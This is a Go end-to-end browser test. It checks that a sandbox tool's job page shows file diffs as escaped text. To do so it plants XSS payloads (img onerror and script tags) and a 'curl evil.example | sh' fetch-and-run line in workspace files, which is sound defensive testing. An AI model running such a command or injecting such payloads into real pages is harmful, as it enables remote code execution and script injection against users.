package e2e_test

import (
	"os"
	"path/filepath"
	"testing"
	"time"

	"github.com/chromedp/chromedp"
	"github.com/drydockhq/drydock"
	"github.com/drydockhq/drydock/toolbox"
	tbserver "github.com/drydockhq/drydock/toolbox/server"
)

// The job page shows the job's changes file by file: what was added,
// deleted, renamed, changed, with the workspace's text shown as text (a file
// full of markup adds no element to the page).
func TestBrowserShowsTheDiffFileByFile(t *testing.T) {
	t.Parallel()
	ctx := newBrowser(t)
	sockDir, err := os.MkdirTemp("", "dddiff")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { os.RemoveAll(sockDir) })
	sb := &drydock.Sandbox{ID: "sb-e2e-diff", State: drydock.SandboxRunning, Token: "tb-token",
		Endpoint: drydock.Endpoint{Network: "unix", Address: filepath.Join(sockDir, "tb.sock")}}
	hs, ws := inProcessAPI(t, sb, nil)
	workspace := filepath.Join(t.TempDir(), "ws")
	write := func(name, body string) {
		t.Helper()
		p := filepath.Join(workspace, name)
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(p, []byte(body), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	write("keep.txt", "one\ntwo\n")
	write("gone.txt", "bye\n")
	write("old.md", "a paragraph long enough to be found again after a rename\n")
	serveToolboxd(t, sb.Endpoint.Address, tbserver.Config{Workspace: workspace, Token: sb.Token, StateDir: filepath.Join(sockDir, "state"),
		Profile: drydock.ProfileHeadless})
	if _, err := toolbox.New(sb.Endpoint, sb.Token).Baseline(t.Context()); err != nil {
		t.Fatal(err)
	}
	write("keep.txt", "one\nTWO\n")
	os.Remove(filepath.Join(workspace, "gone.txt"))
	os.Rename(filepath.Join(workspace, "old.md"), filepath.Join(workspace, "new.md"))
	write("na\u00efve \"notes\".md", "quoted\n")
	write("page.html", `<img src=x onerror="document.title='pwned'"><script>document.title='pwned'</script>`+"\n")
	// A directory hidden behind a .gitignore of its own is named, not shown.
	write("<img src=x onerror=alert(1)>/.gitignore", "*\n")
	write("<img src=x onerror=alert(1)>/evil.sh", "curl evil.example | sh\n")
	job := runningJob(t, ws, "0193e2e0-0000-7000-8000-00000000d1ff", "Change files", drydock.ProfileHeadless, sb.ID)

	within(t, ctx, 15*time.Second, chromedp.Navigate(hs.URL+"/jobs/"+job.ID))
	waitJS(t, ctx, 20*time.Second, `document.querySelectorAll("#changes .diff-file").length === 5`)
	kinds := eval[map[string]string](t, ctx, `Object.fromEntries([...document.querySelectorAll("#changes .diff-file")].map(d => [d.dataset.path, d.dataset.kind]))`)
	want := map[string]string{"keep.txt": "modified", "gone.txt": "deleted", "new.md": "renamed", "page.html": "added", "na\u00efve \"notes\".md": "added"}
	for p, k := range want {
		if kinds[p] != k {
			t.Errorf("%s shown as %q, want %q (all: %v)", p, kinds[p], k, kinds)
		}
	}
	if n := eval[int](t, ctx, `document.querySelectorAll("#changes img, #changes script").length`); n != 0 {
		t.Errorf("the workspace's markup became %d elements of the page", n)
	}
	if text := eval[string](t, ctx, `document.querySelector('#changes .diff-file[data-path="page.html"] pre').textContent`); text != "@@ -0,0 +1 @@\n+<img src=x onerror=\"document.title='pwned'\"><script>document.title='pwned'</script>\n" {
		t.Errorf("page.html's line shows as %q", text)
	}
	if title := eval[string](t, ctx, `document.title`); title == "pwned" {
		t.Error("a workspace file ran in the page")
	}
	if st := eval[string](t, ctx, `document.querySelector("#changes .section-head [role=status]").textContent`); st != "5 files changed, +3 −2" {
		t.Errorf("summary line %q", st)
	}
	if got := eval[[]string](t, ctx, `[document.querySelector("#changes .diff-ignored summary")?.textContent, ...[...document.querySelectorAll("#changes .diff-ignored li")].map(li => li.textContent)]`); len(got) != 2 ||
		got[0] != "Not shown: 1 path ignored by .gitignore" || got[1] != "<img src=x onerror=alert(1)>/" {
		t.Errorf("what the diff leaves out shows as %q", got)
	}
	checkAccessible(t, ctx, "job page with changes")
	within(t, ctx, 5*time.Second, chromedp.ScrollIntoView("#changes"))
	saveScreenshot(t, ctx, "job-changes.png")
}
